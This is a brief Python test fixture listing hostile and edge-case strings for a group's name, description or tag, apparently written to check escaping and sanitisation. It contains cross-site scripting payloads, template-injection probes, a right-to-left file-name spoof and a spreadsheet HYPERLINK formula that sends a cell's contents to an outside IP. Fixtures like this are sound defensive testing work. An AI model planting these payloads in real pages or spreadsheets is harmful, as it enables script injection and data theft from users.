"""Text that somebody could have typed into a group's name, a description or a tag."""

HOSTILE = {
    "script": "<script>window.hacked = 1</script>",
    "end of data": "</script><script>window.hacked = 1</script><!--\"'",
    "picture": '<img src="https://192.0.2.1/x.png" onerror="window.hacked = 1">',
    "template": "{{ 7 * 191 }} ${7 * 191} {% raw %}",
    "right to left": "שלום \u202egnp.exe\u202c عربى",
    "emoji": "🔥👩‍👩‍👧‍👦 prod 🇩🇪",
    "very long": "x" * 255,
    "formula": '=HYPERLINK("https://192.0.2.1/?"&A1,"open")',
    "entities": "a &amp; b & c &lt;",
    "newline": "two\r\nlines\u2028and\tmore",
}
